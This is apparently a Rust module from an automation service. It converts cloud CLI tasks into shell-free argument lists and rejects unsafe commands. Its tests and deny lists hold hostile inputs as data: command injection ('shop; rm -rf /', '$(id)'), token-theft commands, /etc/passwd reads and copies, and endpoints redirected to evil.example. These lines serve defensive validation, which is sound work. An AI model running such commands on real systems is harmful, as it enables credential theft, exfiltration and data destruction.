//! Turns tasks into calls of programs: a program and lists of arguments.
//!
//! No shell is ever involved.

use crate::template::to_text;
use serde_json::{Map, Value};

mod connections;
mod databases;
mod kubectl;
mod options;
mod patches;
mod remote;
mod scripts;
mod setup;
mod tools;
mod words;

pub use connections::{destination, named_by_integrations, needs_connection, with_passwords};
pub(crate) use connections::{secret_name, takes_token};
pub(crate) use kubectl::{CONTINUOUS, HORIZONTAL, STORAGE, VERTICAL};
use options::{WITH_VALUE, leading_option, leads_elsewhere, leads_from_aws, reads_file};
pub use patches::{PatchAfter, PatchOutcome};
pub use scripts::INTERPRETERS;
pub use setup::{Environment, FILE, OutputFormat, PrivateFile, ProgramSetup};
use tools::Tool;
pub use words::words;

/// Calls of a program, run one after the other until one fails.
#[derive(Debug, Clone, PartialEq)]
pub struct ProgramCall {
    /// For example aws or kubectl.
    pub program: &'static str,
    /// The arguments of each call.
    pub calls: Vec<Vec<String>>,
    /// For all calls together, µs.
    pub timeout: i64,
    /// The patch to make from the output of the last call.
    pub then: Option<PatchAfter>,
    pub setup: ProgramSetup,
}

impl ProgramCall {
    /// A call with the environment of the service.
    pub fn new(program: &'static str, calls: Vec<Vec<String>>, timeout: i64) -> Self {
        Self { program, calls, timeout, then: None, setup: ProgramSetup::default() }
    }
}

/// Kinds whose parameter `command` is a command line, with their programs.
const COMMAND_LINES: [(&str, &str); 4] = [
    ("cloud.aws.cli", "aws"),
    ("cloud.azure.cli", "az"),
    ("cloud.gcp.cli", "gcloud"),
    ("cloud.k8s.cli", "kubectl"),
];

/// Leading words that are refused because they manage sessions, credentials or local files.
const REFUSED: [(&str, &[&str]); 3] = [
    ("aws", &["configure", "sso", "login", "logout"]),
    ("az", &["login", "logout", "account", "configure", "extension", "interactive", "rest", "ssh"]),
    ("gcloud", &["auth", "config", "init", "components", "compute ssh", "compute scp", "interactive"]),
];

/// Allowed verbs of kubectl. Verbs that open sessions, read local files or change its configuration are not included.
const KUBECTL: [&str; 19] = [
    "annotate",
    "api-resources",
    "autoscale",
    "cordon",
    "delete",
    "describe",
    "drain",
    "explain",
    "get",
    "label",
    "logs",
    "patch",
    "rollout",
    "scale",
    "set",
    "taint",
    "top",
    "uncordon",
    "version",
];

/// Alternative names of kinds in the reference, with the name used here.
const ALIASES: [(&str, &str); 5] = [
    ("aws.cli", "cloud.aws.cli"),
    ("azure.cli", "cloud.azure.cli"),
    ("core.blast-radius-preflight", "core.blast_radius_preflight"),
    ("gcp.cli", "cloud.gcp.cli"),
    ("k8s.cli", "cloud.k8s.cli"),
];

/// Resolves an alternative name of a kind.
pub fn canonical(kind: &str) -> &str {
    ALIASES.iter().find(|(alias, _)| *alias == kind).map_or(kind, |(_, name)| name)
}

/// The program of a kind with a command line, or of one that changes a cluster; `None` for other kinds.
fn program(kind: &str) -> Option<&'static str> {
    let kind = canonical(kind);
    let line = COMMAND_LINES.iter().find(|(name, _)| *name == kind).map(|(_, program)| *program);
    line.or_else(|| kubectl::KINDS.contains(&kind).then_some("kubectl"))
}

/// The programs that tasks can run.
pub const PROGRAMS: [&str; 18] = [
    "argocd",
    "aws",
    "az",
    "bash",
    "gcloud",
    "gh",
    "glab",
    "kubectl",
    "mysql",
    "node",
    "ping",
    "psql",
    "pwsh",
    "python3",
    "rabbitmqadmin",
    "redis-cli",
    "ssh",
    "traceroute",
];

/// The program that a task runs on the machine of the service; `None` if it runs none, or if a template decides which.
pub fn program_of(kind: &str, params: &Value) -> Option<&'static str> {
    match canonical(kind) {
        databases::KIND => databases::program(params).ok(),
        remote::KIND => Some("ssh"),
        scripts::KIND => scripts::program(params).ok(),
        kind => Tool::find(kind).map(|tool| tool.program).or_else(|| program(kind)),
    }
}

/// The calls of a task with rendered parameters. `timeout` is in µs.
///
/// # Errors
///
/// What is wrong with the parameters.
pub fn program_call(
    kind: &str,
    params: &Value,
    secrets: &Map<String, Value>,
    timeout: i64,
) -> Result<ProgramCall, String> {
    let made = match canonical(kind) {
        databases::KIND => Some(databases::make(params, secrets)?),
        remote::KIND => Some(("ssh", remote::make(params, secrets)?)),
        scripts::KIND => Some(scripts::make(params, secrets)?),
        kind => match Tool::find(kind) {
            Some(tool) => Some((tool.program, tool.make(params, secrets)?)),
            None => None,
        },
    };
    if let Some((program, (arguments, setup))) = made {
        return Ok(ProgramCall { setup, ..ProgramCall::new(program, vec![arguments], timeout) });
    }
    let program = program(kind).ok_or_else(|| format!("{kind} runs no program"))?;
    if let Some(made) = kubectl::patch(kind, params) {
        let (get, then) = made?;
        tools::refuse_secrets(&get, secrets)?;
        return Ok(ProgramCall { then: Some(then), ..ProgramCall::new(program, vec![get], timeout) });
    }
    let calls = match kubectl::calls(kind, params) {
        Some(calls) => calls?,
        None => vec![command(program, &params["command"])?],
    };
    tools::refuse_secrets(&calls.concat(), secrets)?;
    Ok(ProgramCall::new(program, calls, timeout))
}

/// Checks parameters without templates before a run.
///
/// # Errors
/// What is wrong with the parameters.
pub fn check(kind: &str, params: &Value) -> Result<(), String> {
    match kind {
        databases::KIND => databases::check(params),
        remote::KIND => remote::command(params).map(drop),
        scripts::KIND => scripts::check(params),
        STORAGE => kubectl::patch(kind, params).map_or(Ok(()), |made| made.map(drop)),
        HORIZONTAL => program_call(kind, params, &Map::new(), 0).map(drop),
        kind => Tool::find(kind).map_or(Ok(()), |tool| tool.arguments(&params["command"]).map(drop)),
    }
}

/// Describes the calls of a task. Does not contain the address, which is a secret.
pub fn told(kind: &str, params: &Value, timeout: i64) -> Result<String, String> {
    let line = |program: &str, arguments: &[String]| {
        let words: Vec<String> = arguments.iter().map(|word| words::quoted(word)).collect();
        format!("{program} {}", words.join(" "))
    };
    check(kind, params)?;
    match kind {
        databases::KIND => {
            Ok(format!("{}:\n\n{}", databases::program(params)?, to_text(&params["command"]).trim()))
        }
        remote::KIND => Ok(format!("ssh:\n\n{}", remote::command(params)?)),
        scripts::KIND => {
            Ok(format!("{}:\n\n{}", scripts::program(params)?, to_text(&params["script"]).trim()))
        }
        kind => match Tool::find(kind) {
            Some(tool) => Ok(line(tool.program, &tool.arguments(&params["command"])?)),
            None => program_call(kind, params, &Map::new(), timeout).map(|call| shown(&call)),
        },
    }
}

/// The validated arguments of a command given as a line or a list.
fn command(program: &str, command: &Value) -> Result<Vec<String>, String> {
    let mut arguments: Vec<String> = match command {
        Value::Array(list) => list.iter().map(to_text).collect(),
        Value::Null => return Err("command: expected a command line".to_owned()),
        line => words(&to_text(line)).map_err(|reason| format!("command: {reason}"))?,
    };
    if arguments.first().is_some_and(|first| first == program) {
        arguments.remove(0);
    }
    if let Some(option) = leading_option(&arguments) {
        return Err(format!(
            "command: the option {option} stands before what {program} is to do: put it behind"
        ));
    }
    let verbs: Vec<&str> = verbs(program, &arguments);
    let Some(first) = verbs.first() else {
        return Err(format!("command: expected what {program} is to do, found \"{}\"", to_text(command)));
    };
    if program == "kubectl" && !KUBECTL.contains(first) {
        return Err(format!("command: kubectl {first} is not run here; these are: {}", KUBECTL.join(", ")));
    }
    let both = verbs.iter().take(2).copied().collect::<Vec<_>>().join(" ");
    let refused = REFUSED.iter().find(|(name, _)| *name == program).map_or(&[][..], |(_, refused)| *refused);
    if refused.iter().any(|word| word == first || *word == both) {
        return Err(format!(
            "command: {program} {first} is not run here: it is about sessions, credentials or settings"
        ));
    }
    if program == "kubectl"
        && let Some(option) = arguments.iter().find(|word| leads_elsewhere(word))
    {
        return Err(format!(
            "command: \"{option}\" leads to another cluster than those of the settings of kubectl, with their credentials: use --context"
        ));
    }
    if program == "aws"
        && let Some(option) = arguments.iter().find(|word| leads_from_aws(word))
    {
        return Err(format!(
            "command: \"{option}\" sends what is asked, signed with the credentials of this machine, to a server that is not known to be AWS"
        ));
    }
    if let Some(file) = arguments.iter().find(|word| reads_file(word)) {
        return Err(format!("command: \"{file}\" names a file of this machine: write the value out"));
    }
    let copies = verbs.iter().take(3).any(|verb| COPIES.contains(verb));
    let is_local = |word: &str| !word.contains("://") && !COPIES.contains(&word);
    let mut after = verbs.iter().skip_while(|verb| !COPIES.contains(*verb));
    if program != "kubectl" && copies && after.any(|word| is_local(word)) {
        return Err(
            "command: files of this machine are not copied: both ends must be addresses such as s3://…"
                .to_owned(),
        );
    }
    Ok(arguments)
}

/// Verbs that copy files.
const COPIES: [&str; 7] = ["cp", "mv", "sync", "rsync", "upload", "upload-batch", "download"];

/// The words of a command that are not options.
fn verbs<'a>(program: &str, arguments: &'a [String]) -> Vec<&'a str> {
    let mut found = Vec::new();
    let mut is_value = false;
    for word in arguments {
        if std::mem::take(&mut is_value) {
            continue;
        }
        if word.starts_with('-') {
            is_value = WITH_VALUE.contains(&word.as_str());
        } else {
            found.push(word.as_str());
        }
    }
    // The words after kubectl's verb are names of objects, which can be any word.
    if program == "kubectl" {
        found.truncate(2);
    }
    found
}

/// Whether a call has no side effects and can be repeated.
pub fn only_reads(kind: &str, params: &Value) -> bool {
    if kind == databases::KIND {
        return databases::only_reads(params);
    }
    if let Some(tool) = Tool::find(kind) {
        return tool.only_reads(&params["command"]);
    }
    let Some(program) = program(kind) else { return false };
    let Ok(arguments) = command(program, &params["command"]) else { return false };
    let verbs = verbs(program, &arguments);
    match program {
        "kubectl" => verbs.first().is_some_and(|verb| {
            ["get", "describe", "logs", "top", "version", "explain", "api-resources"].contains(verb)
        }),
        "aws" => verbs.get(1).is_some_and(|verb| {
            ["describe-", "list-", "get-"].iter().any(|start| verb.starts_with(start))
                || ["ls", "wait"].contains(verb)
        }),
        _ => verbs.last().is_some_and(|verb| ["list", "show", "describe"].contains(verb)),
    }
}

/// The calls as command lines, one on each line.
pub fn shown(call: &ProgramCall) -> String {
    let line = |arguments: &Vec<String>| {
        let words: Vec<String> = arguments.iter().map(|word| words::quoted(word)).collect();
        format!("{} {}", call.program, words.join(" "))
    };
    let then = call.then.iter().map(|then| {
        let mut arguments = then.arguments().to_vec();
        arguments.push("…".to_owned());
        format!("{}\n{}", line(&arguments), then.told())
    });
    call.calls.iter().map(line).chain(then).collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use super::{only_reads, program_call, shown};
    use serde_json::{Map, Value, json};

    fn made(kind: &str, params: &Value) -> Result<String, String> {
        program_call(kind, params, &Map::new(), 1).map(|call| shown(&call))
    }

    #[test]
    fn a_command_line_becomes_arguments_and_no_shell() {
        assert_eq!(
            made(
                "cloud.aws.cli",
                &json!({ "command": "aws ec2 describe-instances --filters 'Name=tag:a b,Values=x'" })
            ),
            Ok("aws ec2 describe-instances --filters 'Name=tag:a b,Values=x'".to_owned())
        );
        assert_eq!(
            made("cloud.k8s.cli", &json!({ "command": ["get", "pods", "-n", "shop; rm -rf /"] })),
            Ok("kubectl get pods -n 'shop; rm -rf /'".to_owned())
        );
        for line in [
            "aws s3 ls | sh",
            "aws s3 ls > x",
            "aws s3 ls; id",
            "aws s3 ls $(id)",
            "aws s3 ls `id`",
            "aws 's3",
        ] {
            assert!(made("cloud.aws.cli", &json!({ "command": line })).is_err(), "{line}");
        }
    }

    #[test]
    fn sessions_credentials_and_files_are_refused() {
        for (kind, line) in [
            ("cloud.k8s.cli", "kubectl exec -it web -- sh"),
            ("cloud.k8s.cli", "kubectl --context x config view"),
            ("cloud.k8s.cli", "kubectl delete -f /etc/passwd"),
            ("cloud.aws.cli", "aws --region x configure list"),
            ("cloud.aws.cli", "aws ec2 run-instances --user-data file:///etc/passwd"),
            ("cloud.aws.cli", "aws --endpoint-url x configure list"),
            ("cloud.aws.cli", "aws ec2 describe-instances --endpoint-url http://evil.example"),
            ("cloud.aws.cli", "aws ec2 describe-instances --endpoint=http://evil.example --no-verify-ssl"),
            ("cloud.aws.cli", "aws ec2 describe-instances --ca-bundle /etc/x"),
            ("cloud.aws.cli", "aws s3 cp /etc/passwd s3://bucket/x"),
            ("cloud.k8s.cli", "kubectl delete -f/etc/passwd"),
            ("cloud.k8s.cli", "kubectl get pods --server=https://evil.example"),
            ("cloud.k8s.cli", "kubectl get pods -s https://evil.example"),
            ("cloud.k8s.cli", "kubectl get pods --insecure-skip-tls-verify"),
            ("cloud.gcp.cli", "gcloud auth print-access-token"),
            ("cloud.gcp.cli", "gcloud compute ssh web"),
            ("cloud.azure.cli", "az account get-access-token"),
            ("cloud.aws.cli", ""),
        ] {
            assert!(made(kind, &json!({ "command": line })).is_err(), "{line}");
        }
    }

    #[test]
    fn copies_between_addresses_are_no_files_of_the_machine() {
        assert!(made("cloud.aws.cli", &json!({ "command": "aws s3 cp s3://a/x s3://b/x" })).is_ok());
        assert!(
            made("cloud.aws.cli", &json!({ "command": "aws --region eu-west-1 ec2 describe-volumes" }))
                .is_ok()
        );
    }

    #[test]
    fn what_only_looks_may_be_asked_again() {
        for (kind, line, expected) in [
            ("cloud.aws.cli", "aws ec2 describe-instances", true),
            ("cloud.aws.cli", "aws sagemaker describe-endpoint --endpoint-name x --end-time now", true),
            ("cloud.aws.cli", "aws ec2 stop-instances --instance-ids i-1", false),
            ("cloud.k8s.cli", "get pods", true),
            ("cloud.k8s.cli", "delete pod get", false),
            ("cloud.gcp.cli", "gcloud compute instances list", true),
            ("k8s.workload_restart", "", false),
        ] {
            assert_eq!(only_reads(kind, &json!({ "command": line })), expected, "{line}");
        }
    }
}
